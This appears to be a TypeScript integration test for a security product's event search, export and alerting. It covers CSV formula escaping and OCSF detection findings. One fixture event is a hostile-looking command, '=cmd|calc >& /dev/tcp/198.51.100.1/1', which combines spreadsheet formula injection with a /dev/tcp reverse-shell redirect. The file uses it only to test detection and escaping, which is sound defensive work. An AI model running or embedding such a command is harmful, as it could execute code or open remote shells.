/** The event search and exports over real HTTP: a real agent's events, a real search process. */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { enrolAgent, TestAgent } from '../testing/test-agent.ts'
import { TestConsole } from '../testing/test-console.ts'
import { startTestServer, type TestServer } from '../testing/test-server.ts'
import { csvLine } from './made-file.ts'

let shared: TestServer
let admin: TestConsole
let agent: TestAgent

before(async () => {
  shared = await startTestServer()
  admin = new TestConsole(shared.server.consoleUrl)
  await admin.begin(shared.server.firstUser ?? { name: '', password: '' })
  agent = new TestAgent(await enrolAgent(shared.server.createEnrolmentToken().token))
  await agent.connect()
  const events = ['ls -l', '=cmd|calc >& /dev/tcp/198.51.100.1/1', 'cat "a b"'].map((commandLine, index) =>
    agent.started(index + 1, commandLine, 100 + index, `/usr/bin/tool-${index}`),
  )
  await agent.deliver(1, events)
})
after(async () => {
  agent.cut()
  await shared?.end()
})

const span = 'from=2000-01-01T00:00:00Z&to=2100-01-01T00:00:00Z'
const asked = (q: string) => `${span}&q=${encodeURIComponent(q)}`

test('events are found as soon as they were acknowledged, by field, by text, over time', async () => {
  const commandLines = async (q: string) =>
    (await admin.call('searchEvents', { query: asked(q) })).body.items.map(
      (event: { process: { commandLine: string } }) => event.process.commandLine,
    )
  assert.deepEqual(await commandLines('type:process.started process.executable:/usr/bin/TOOL-0'), ['ls -l'])
  assert.deepEqual(await commandLines('"cat \\"a b\\""'), ['cat "a b"'])
  assert.deepEqual(await commandLines(`asset.id:${agent.enrolment.assetId} process.pid:100..101 -ls`), [
    '=cmd|calc >& /dev/tcp/198.51.100.1/1',
  ])
  const page = (await admin.call('searchEvents', { query: `${asked('type:process.started')}&limit=2` })).body
  assert.equal(page.items.length, 2)
  const rest = await admin.call('searchEvents', {
    query: `${asked('type:process.started')}&limit=2&cursor=${encodeURIComponent(page.nextCursor)}`,
  })
  assert.equal(rest.body.items.length, 1)
  assert.equal(rest.body.nextCursor, null)
  const histogram = (await admin.call('eventHistogram', { query: `${asked('type:process.started')}&buckets=10` })).body
  assert.equal(histogram.total, 3)
  const values = await admin.call('eventValues', { query: `${asked('')}&field=process.executable&prefix=/usr/` })
  assert.equal(values.body.items.length, 3)
  const archive = (await admin.call('getEventArchive')).body
  assert.ok(archive.events >= 3)
  assert.equal(archive.damagedFiles, 0)
  const metrics = await admin.fetch('GET', '/metrics')
  assert.match(metrics.body, /rampart_searchable_events [1-9]/)
})

test('what is wrong with a query is said with its place', async () => {
  const refused = await admin.call('searchEvents', { query: asked('ls proces.name:x') })
  assert.deepEqual([refused.status, refused.body.code, refused.body.path], [400, 'query.unknown-field', 'query.q'])
  assert.match(refused.body.message, /character 4/)
  const cursor = await admin.call('searchEvents', { query: `${asked('')}&cursor=nonsense` })
  assert.deepEqual([cursor.status, cursor.body.code], [400, 'search.invalid-cursor'])
})

test('found events are taken away as CSV and as lines, and the audit trail says so', async () => {
  const csv = await admin.call('exportEvents', { query: `${asked('type:process.started')}&format=csv` })
  assert.match(csv.headers.get('content-disposition') ?? '', /attachment; filename="events-.*\.csv"/)
  const lines = csv.body.split('\r\n')
  assert.equal(lines.length, 5, 'a head, three events, and an end of line')
  assert.ok(csv.body.includes(`'=cmd|calc`), 'no formula')
  const ndjson = await admin.call('exportEvents', { query: `${asked('type:process.started')}&format=ndjson` })
  assert.equal(
    ndjson.body
      .trim()
      .split('\n')
      .map((line: string) => JSON.parse(line)).length,
    3,
  )
  const trail = (await admin.call('listAudit', { query: 'action=exportEvents' })).body.items
  assert.deepEqual(
    trail.map((row: { detail: { format: string; q: string } }) => [row.detail.format, row.detail.q]),
    [
      ['ndjson', 'type:process.started'],
      ['csv', 'type:process.started'],
    ],
  )
})

test('an event leads to the alerts that it supports', async () => {
  const [event] = (await admin.call('searchEvents', { query: asked('process.pid:101') })).body.items
  const found = (await admin.call('listAlerts', { query: `event=${encodeURIComponent(event.id)}` })).body.items
  assert.deepEqual(
    found.map((alert: { asset: { id: string } }) => alert.asset.id),
    [agent.enrolment.assetId],
  )
  const [other] = (await admin.call('searchEvents', { query: asked('process.pid:100') })).body.items
  assert.equal((await admin.call('listAlerts', { query: `event=${encodeURIComponent(other.id)}` })).body.total, 0)
})

test('cells of CSV: quotes, ends of lines, and nothing that a spreadsheet runs', () => {
  assert.equal(csvLine(['a', 1, null, 'b"c', 'd,e', 'f\r\ng']), 'a,1,,"b""c","d,e","f\r\ng"\r\n')
  for (const start of ['=', '+', '-', '@', '\t', '\r'])
    assert.ok(csvLine([`${start}x`]).startsWith(`"'${start}x`), JSON.stringify(start))
  for (const start of [' =', '  +', '\u00a0-', '\u200b@', '\u3000＝', '\t=', '\ufeff=', '\u0000='])
    assert.ok(
      csvLine([`${start}x`])
        .replace('"', '')
        .startsWith(`'${start}x`),
      JSON.stringify(start),
    )
  assert.equal(csvLine([' a=b', 'a -1']), ' a=b,a -1\r\n')
  assert.equal(csvLine([-5]), '-5\r\n')
})

test('alerts are taken away as CSV, lines, and OCSF 1.6 Detection Findings', async () => {
  const [alert] = (await admin.call('listAlerts')).body.items
  const csv = (await admin.call('exportAlerts', { query: 'format=csv' })).body.split('\r\n')
  assert.ok(csv[0].startsWith('id,title,level'))
  assert.ok(csv[1].includes(alert.id))
  const rows = (await admin.call('exportAlerts', { query: `format=ndjson&id=${alert.id}` })).body
  assert.deepEqual(JSON.parse(rows), alert)
  assert.equal((await admin.call('exportAlerts', { query: 'format=ndjson&id=unknown' })).body, '')
  const finding = JSON.parse((await admin.call('exportAlerts', { query: 'format=ocsf' })).body)
  assertDetectionFinding(finding)
  assert.equal(finding.finding_info.uid, alert.id)
  assert.deepEqual(finding.finding_info.attacks[0].technique, { uid: 'T1059' })
  assert.deepEqual(finding.finding_info.attacks[0].sub_technique, { uid: 'T1059.004' })
  assert.equal(finding.evidences[0].process.pid, 101)
  assert.equal(finding.device.uid, agent.enrolment.assetId)
})

/** What the schema of class 2004 requires, and what it allows in enumerations. */
function assertDetectionFinding(finding: Record<string, never> & { [name: string]: never }): void {
  const record = finding as unknown as Record<string, unknown>
  assert.equal(record.category_uid, 2)
  assert.equal(record.class_uid, 2004)
  assert.ok([1, 2, 3].includes(record.activity_id as number))
  assert.equal(record.type_uid, 200_400 + (record.activity_id as number))
  assert.ok(Number.isInteger(record.time) && (record.time as number) > 1e12)
  assert.ok([1, 2, 3, 4, 5].includes(record.severity_id as number))
  assert.ok([1, 2, 3, 4, 5].includes(record.status_id as number))
  const metadata = record.metadata as { version: string; product: { name: string } }
  assert.equal(metadata.version, '1.6.0')
  assert.equal(metadata.product.name, 'Rampart')
  const info = record.finding_info as { uid: string; title: string }
  assert.ok(info.uid && info.title)
  assert.ok(Number.isInteger((record.device as { type_id: number }).type_id))
  const objects = ['actor', 'data', 'device', 'dst_endpoint', 'file', 'process', 'query', 'src_endpoint', 'user']
  for (const evidence of record.evidences as Record<string, unknown>[])
    assert.ok(objects.some((name) => name in evidence))
}
